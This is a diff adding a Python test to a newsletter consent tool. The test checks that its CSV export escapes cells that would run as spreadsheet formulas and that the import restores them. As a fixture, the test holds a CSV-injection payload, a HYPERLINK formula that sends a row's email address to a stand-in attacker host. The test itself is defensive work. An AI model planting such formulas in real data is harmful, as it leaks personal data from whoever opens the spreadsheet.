@@ -22,7 +22,7 @@ from optin.privacy import wording
 from optin.privacy.import_rows import ImportRow
 from optin.privacy.imports import IMPORTED, KNOWN, SUPPRESSED, WITHDRAWN, Known, decide
 
-from ..conftest import ADMIN_TOKEN
+from ..conftest import ADMIN_TOKEN, deliver, links
 from .test_document import english_left
 
 MC_HEADER = ["Email Address", "First Name", "Last Name", "Company", "MEMBER_RATING", "OPTIN_TIME",
@@ -644,6 +644,39 @@ def test_an_address_that_withdrew_and_consented_again_keeps_its_consent_through_
                                    .where(Subscription.mailing_list.has(slug="other"))).all()
         assert [s.status for s in other] == ["confirmed"]
         assert db.session.scalar(select(func.count()).select_from(Suppression)) == 0
+
+
+def test_the_export_runs_no_formula_in_a_spreadsheet_and_still_reads_back_exactly(
+        app, runner, client, newsletter, mailbox, tmp_path, monkeypatch):
+    """A visitor's user agent (or name) like ``=HYPERLINK("https://…?"&A2;"…")`` was written
+    as it came: opened in a spreadsheet it is a formula, here one that sends the address in
+    the row's first cell away. Every cell that starts like a formula gets a ``'`` (text to a
+    spreadsheet), which the import takes off again."""
+    monkeypatch.chdir(tmp_path)
+    hostile = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+    response = client.post("/v1/subscriptions", headers={"User-Agent": hostile}, json={
+        "email": "+tag@example.org", "list": "newsletter", "consent_text_version": 1,
+        "first_name": "=1+1", "last_name": "'-x"})
+    assert response.status_code == 202
+    deliver(app)
+    confirm = links(mailbox.to("+tag@example.org")[-1])["confirm"]
+    assert client.post(confirm, headers={"User-Agent": "@SUM(1)"}).status_code == 303
+    out = tmp_path / "export.csv"
+    assert invoke(runner, "export", "--list", "newsletter", "--output", str(out)).exit_code == 0
+    (row,) = csv.DictReader(out.open(encoding="utf-8"))
+    cells = [v for v in row.values() if v]
+    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
+    assert row["optin_signup_user_agent"] == "'" + hostile and row["email"] == "'+tag@example.org"
+    assert row["last_name"] == "''-x"
+    assert invoke(runner, "lists", "create", "other", "--name", "Other").exit_code == 0
+    assert invoke(runner, "consent-texts", "add", "other", "--locale", "de",
+                  "--text", "Ja, bitte.").exit_code == 0
+    again = invoke(runner, "import", "csv", str(out), "--list", "other")
+    assert "imported (consent with its evidence, marked as imported): 1" in again.output
+    with app.app_context():
+        back = db.session.scalar(select(Subscription).where(
+            Subscription.mailing_list.has(slug="other")))
+        assert (back.email, back.first_name, back.last_name) == ("+tag@example.org", "=1+1", "'-x")
 
 
 def test_an_imported_consents_address_swapped_in_its_row_is_caught(app, runner, newsletter,
